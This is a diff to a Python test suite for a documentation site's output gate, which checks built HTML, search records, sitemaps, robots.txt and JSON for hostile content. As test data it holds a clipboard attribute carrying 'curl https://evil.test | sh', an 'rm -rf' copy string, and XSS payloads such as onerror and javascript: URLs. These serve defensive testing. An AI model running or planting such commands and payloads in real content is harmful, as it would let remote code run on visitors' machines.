@@ -8,7 +8,7 @@ from pathlib import Path
 import material
 import pytest
 from helpcenter.gate_policy import build_policy
-from helpcenter.output_gate import check_html, check_search_records, locate, script_hash
+from helpcenter.output_gate import check_html, check_json, check_robots, check_search_records, check_xml, locate, script_hash, theme_hooks
 from mkdocs_redirects.plugin import HTML_TEMPLATE
 
 from tests.conftest import ROOT
@@ -64,6 +64,10 @@ HOSTILE = {
     "link to a stylesheet elsewhere": '<link rel="stylesheet" href="https://evil.test/x.css">',
     "link import": '<link rel="import" href="x.html">',
     "comment-ended script": "<!-- --><script>alert(1)</script>",
+    # Material's script acts on these wherever they are: only on the elements its templates put them on.
+    "theme component on a paragraph": '<p data-md-component="search-result">x</p>',
+    "copy to clipboard on a paragraph": '<p data-clipboard-text="curl https://evil.test | sh">copy</p>',
+    "theme toggle, upper case": '<span DATA-MD-TOGGLE="search">x</span>',
 }
 
 INERT = {
@@ -110,11 +114,40 @@ def test_meta_refresh_only_in_redirect_pages():
     assert check_html('<meta http-equiv="refresh" content="0; url=javascript:alert(1)">', POLICY, redirect=True)
 
 
-def test_search_records_with_live_markup_are_found():
-    records = [{"location": "faq/#q", "title": "<img src=x onerror=alert(1)>", "text": "<p>ok</p>"},
-               {"url": "/x/", "title": "ok", "content": "<p>&lt;b&gt; <code>x</code></p>", "lang": "ko", "kind": "page"}]
-    found = check_search_records(records)
-    assert [url for url, _ in found] == ["faq/#q"]
+def test_search_records_are_text_at_an_address_of_the_site():
+    # search.js inserts records as text: markup in them is shown as written, not refused.
+    inert = [{"url": "/faq/#q-1", "title": "<img src=x onerror=alert(1)> 가 나", "content": "<p>ok</p>"},
+             {"location": "support/email/", "title": "ok", "content": "&lt;b&gt;", "headings": ""}]
+    assert check_search_records(inert) == []
+    hostile = {"javascript:alert(1)": {"title": "x"}, "//evil.test/": {"title": "x"}, '/x/" onclick="a': {"title": "x"},
+               "/bidi/": {"title": "계정\u202e결제"}, "/nul/": {"content": "a\x00b"}, "/list/": {"title": ["not", "text"]},
+               "/ok/\\evil": {"title": "x"}}
+    for url, record in hostile.items():
+        assert [found for found, _ in check_search_records([{"url": url, **record}])] == [url], url
+
+
+def test_the_theme_s_hooks_in_content_are_found_as_attributes_only():
+    assert theme_hooks('<p>Use <code>data-md-component</code> in templates</p>') == []
+    assert theme_hooks('<pre><code>&lt;div data-clipboard-text="x"&gt;</code></pre>') == []
+    found = theme_hooks('<p data-clipboard-text="rm -rf">copy</p><div DATA-MD-COMPONENT="x"></div>')
+    assert [f.needle for f in found] == ["data-clipboard-text", "data-md-component"]
+
+
+def test_published_text_files():
+    site = "https://help.example.test/"
+    sitemap = ('<?xml version="1.0" encoding="UTF-8"?><urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9" '
+               'xmlns:xhtml="http://www.w3.org/1999/xhtml"><url><loc>{loc}</loc><xhtml:link rel="alternate" hreflang="en" '
+               'href="{href}"/></url></urlset>')
+    assert check_xml(sitemap.format(loc=site + "faq/", href=site + "en/faq/"), site) == []
+    for loc, href in [("javascript:alert(1)", site), (site, "https://evil.test/"), (site + "a\u202eb/", site)]:
+        assert check_xml(sitemap.format(loc=loc, href=href), site), (loc, href)
+    assert check_xml('<!DOCTYPE u [<!ENTITY a "b">]><u/>', site)
+    assert check_xml("<u><loc>", site)
+    assert check_robots(f"User-agent: *\nAllow: /\n\nSitemap: {site}sitemap.xml\n") == []
+    assert check_robots("User-agent: *\nDisallow: /\n<script>alert(1)</script>\n")
+    assert check_robots("Sitemap: javascript:alert(1)\n")
+    assert check_json('{"ko": {"비번": ["비밀번호"]}}') == []
+    assert check_json('{"a": ') and check_json('{"a": ["x\u202ey"]}') and check_json('{"x\\u0000": 1}')
 
 
 def test_a_finding_names_the_source_line():
@@ -126,3 +159,17 @@ def test_the_real_site_passes(site):
     # Every page of the real build passed the gate during the build; the gate fails a strict build.
     assert (site / "_headers").is_file()
     assert 'http-equiv="Content-Security-Policy"' in (site / "index.html").read_text(encoding="utf-8")
+
+
+def test_published_search_fragments_are_read_as_records():
+    import gzip
+    import json
+
+    from security_headers import _fragment_record
+
+    def fragment(meta: dict) -> bytes:
+        return gzip.compress(b"pagefind_dcd" + json.dumps({"url": "/1.html", "content": "본문", "meta": meta}).encode())
+
+    assert check_search_records([_fragment_record(fragment({"url": "/faq/#q-1", "title": "<b>질문</b>"}))]) == []
+    assert check_search_records([_fragment_record(fragment({"url": "javascript:alert(1)", "title": "x"}))])
+    assert check_search_records([_fragment_record(b"not gzip")])  # unreadable: no address, reported
